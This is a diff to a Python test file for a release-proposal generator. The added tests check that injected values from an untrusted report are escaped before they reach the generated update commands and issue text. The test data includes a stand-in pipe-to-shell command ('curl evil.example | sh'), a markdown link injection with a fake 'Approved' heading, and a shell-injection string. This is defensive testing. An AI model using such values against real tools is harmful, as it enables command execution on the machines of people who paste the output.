@@ -141,6 +141,14 @@ EDITS: dict[str, tuple[Callable[[Path], object], str]] = {
     "a new file": (_text(NEW), f"{NEW} {OTHER}"),
     "a static workflow": (_text(".github/workflows/agent-update.yml"), f"agent-update.yml {OTHER}"),
     "no code owners": (lambda root: (root / ".github/CODEOWNERS").unlink(), ".github/CODEOWNERS is in the release"),
+    "another code owner": (
+        lambda root: updates.append(root / ".github/CODEOWNERS", "/sdk/ @mallory\n"),
+        ".github/CODEOWNERS gives sdk/README.md to @mallory",
+    ),
+    "no owner of a file": (
+        lambda root: updates.append(root / ".github/CODEOWNERS", "/agent_runner.py\n"),
+        ".github/CODEOWNERS gives agent_runner.py to nobody",
+    ),
     "a file less": (lambda root: (root / CHECKS).unlink(), f"{CHECKS} is in the release"),
     "what is gone": (_text("docs/AUDITOR.md"), "docs/AUDITOR.md is not in the release"),
     "a program": (lambda root: (root / PLAN).chmod(0o755), f"{PLAN} {OTHER}"),
@@ -262,15 +270,22 @@ def test_the_notes_are_those_of_the_versions_between(current: str, version: str,
 
 def test_nobody_pastes_what_a_machine_that_lies_calls_a_code() -> None:
     release = proposal_pages.Release("v1.0.0", "v1.1.0", "a" * 40, "", ())
-    lies = {"code": "CON04; curl evil.example | sh", "path": "x`](http://evil.example)\n# Approved", "line": "1"}
-    report = {"weaker": [lies, {"code": "CON04"}, "no object"], "changes": 1, "drift": None}
+    path = "x`](http://evil.example)\n# Approved"
+    lies = [
+        {"code": "CON04; curl evil.example | sh", "path": path, "line": "1"},
+        {"code": "CON04", "path": path, "line": "1", "place": "'; sh; \" $(sh)"},
+    ]
+    report = {"weaker": [*lies, {"code": "CON04", "path": "x"}, "no object"], "changes": 1, "drift": None}
 
     text = proposal_pages.issue(release, report, has_app=True)
 
-    assert "update --to v1.1.0 --accept CON04\n" in text
-    assert 'accept="CON04"' in text
+    names = (
+        "new:CON04@x%60]%28http://evil.example%29%0A%23%20Approved:%27%3B%20sh%3B%20%22%20%24%28sh%29",
+        "new:CON04@x",
+    )
+    assert f"update --to v1.1.0 \\\n  --accept '{names[0]}' \\\n  --accept {names[1]}\n" in text
+    assert f'accept="{names[0]} {names[1]}"' in text
     assert "\n# Approved" not in text
-    assert "evil" not in text.partition("## The gate")[0]
     assert "| **`CON04; curl evil.example `&#124;` sh`** |" in text
 
 
